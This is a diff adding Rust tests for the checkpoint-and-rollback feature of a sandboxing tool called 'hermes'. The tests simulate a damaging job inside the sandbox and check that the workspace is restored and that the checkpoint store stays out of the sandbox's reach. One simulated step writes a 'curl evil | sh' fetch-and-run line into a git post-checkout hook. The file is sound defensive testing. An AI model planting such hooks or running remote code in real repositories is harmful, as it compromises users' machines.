@@ -1,0 +1,105 @@
+//! Checkpoints: a workspace as it was before a run comes back.
+#![allow(clippy::unwrap_used)]
+
+use std::fs;
+use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
+
+use hermes_tests::{Outcome, Sandbox, TreeSnapshot, is_root, need, run_to_end, skip};
+
+fn changes(sandbox: &Sandbox, words: &[&str]) -> Outcome {
+    run_to_end(sandbox.hermes().arg("changes").args(words))
+}
+
+#[test]
+fn whatever_a_job_did_is_undone_and_that_can_be_undone() {
+    need!("git");
+    let sandbox = Sandbox::new().flags(["--checkpoint"]);
+    sandbox.write(".gitignore", "ignored\n");
+    sandbox.write("tracked", "1\n");
+    let git = |args: &[&str]| {
+        run_to_end(sandbox.plain_command("git").args(["-c", "user.name=t", "-c", "user.email=t@example.com"]).args(args))
+    };
+    for args in [&["init", "-q", "."][..], &["add", "."], &["commit", "-qm", "first"]] {
+        git(args).ok();
+    }
+    sandbox.write("untracked", "u\n");
+    sandbox.write("ignored", "i\n");
+    sandbox.script("run", "#!/bin/sh\n");
+    symlink("tracked", sandbox.workspace.join("link")).unwrap();
+    fs::set_permissions(sandbox.workspace.join("untracked"), fs::Permissions::from_mode(0o640)).unwrap();
+    fs::create_dir(sandbox.workspace.join("empty")).unwrap();
+    let before = TreeSnapshot::of(&sandbox.workspace);
+    sandbox
+        .sh("rm untracked ignored; echo 2 > tracked; git -c user.name=t -c user.email=t@example.com commit -qam evil; git branch other; \
+             chmod 777 run; rm link; mkdir link; touch link/x; rmdir empty; rm -rf .git/refs/tags; mkfifo fifo; echo 'curl evil | sh' > .git/hooks/post-checkout")
+        .ok();
+    let after = TreeSnapshot::of(&sandbox.workspace);
+    let dry = changes(&sandbox, &["rollback", "--dry-run"]);
+    dry.ok().says("restore tracked\n").says("remove  link/x\n").says("remove  fifo\n");
+    after.assert_unchanged(&sandbox.workspace);
+    let back = changes(&sandbox, &["rollback"]);
+    assert!(back.ok().err().contains("back at checkpoint 1") && back.err().contains("changes rollback 2"), "{}", back.report());
+    before.assert_unchanged(&sandbox.workspace);
+    assert_eq!(git(&["log", "--oneline"]).ok().out().lines().count(), 1);
+    assert!(changes(&sandbox, &["rollback", "1"]).ok().err().contains("nothing has changed since checkpoint 1"));
+    changes(&sandbox, &["rollback", "2"]).ok();
+    assert_eq!(sandbox.read("tracked"), "2\n");
+    changes(&sandbox, &["list"]).ok().says("checkpoint 1 ").says("checkpoint 3 ");
+}
+
+#[test]
+fn nothing_starts_when_it_cannot_be_taken() {
+    let sandbox = Sandbox::new().flags(["--checkpoint"]);
+    let copy = sandbox.run_command();
+    let mut overlay = sandbox.hermes();
+    overlay.args(copy.get_args()).args(["--overlay", "--", "touch", "ran"]);
+    assert!(run_to_end(&mut overlay).refused(125).err().contains("--checkpoint is for a workspace that is written"));
+    let nowhere = Sandbox::new().flags(["--checkpoint"]).env("XDG_STATE_HOME", "/proc/self");
+    nowhere.sh("touch ran").refused(125);
+    assert!(!nowhere.workspace.join("ran").exists());
+    assert!(changes(&Sandbox::new(), &["rollback"]).refused(125).err().contains("nothing is kept"));
+}
+
+#[test]
+fn a_state_directory_that_is_too_small_is_not_filled() {
+    if !is_root() {
+        skip!("needs root to mount a small file system");
+    }
+    need!("unshare");
+    let sandbox = Sandbox::new();
+    sandbox.write("big", vec![b'x'; 8 << 20]);
+    let small = sandbox.root().join("small");
+    fs::create_dir(&small).unwrap();
+    let program = sandbox.hermes().get_program().to_owned();
+    let script = format!(
+        "mount -t tmpfs -o size=4m,mode=700 t '{0}' && XDG_STATE_HOME='{0}' \"$0\" run --checkpoint -- touch ran; echo \"status $?\"",
+        small.display()
+    );
+    let outcome = run_to_end(sandbox.plain_command("unshare").args(["-m", "/bin/sh", "-c", &script]).arg(program));
+    outcome.ok().says("status 125");
+    assert!(outcome.err().contains("it needs 8 MiB and"), "{}", outcome.report());
+    assert!(!sandbox.workspace.join("ran").exists());
+}
+
+#[test]
+fn a_big_hole_costs_nothing_and_comes_back_as_one() {
+    let sandbox = Sandbox::new().flags(["--checkpoint"]);
+    let path = sandbox.workspace.join("sparse");
+    fs::File::create(&path).unwrap().set_len(10 << 30).unwrap();
+    let run = sandbox.sh("rm sparse");
+    assert!(run.ok().time.as_secs() < 20);
+    changes(&sandbox, &["rollback"]).ok();
+    let meta = fs::metadata(&path).unwrap();
+    assert_eq!(meta.len(), 10 << 30);
+    assert!(meta.blocks() < 1 << 11);
+}
+
+#[test]
+fn the_store_cannot_be_reached_from_inside() {
+    let sandbox = Sandbox::new().flags(["--checkpoint"]);
+    sandbox.write("f", sandbox.canary("stored"));
+    let state = sandbox.home.join(".local/state/hermes-sandbox");
+    sandbox.sh("true").ok();
+    assert!(state.join("trees").is_dir());
+    sandbox.sh(&format!("rm f; grep -r CANARY '{}' 2>&1; echo END", state.display())).ok().says("END").never_says("stored");
+}
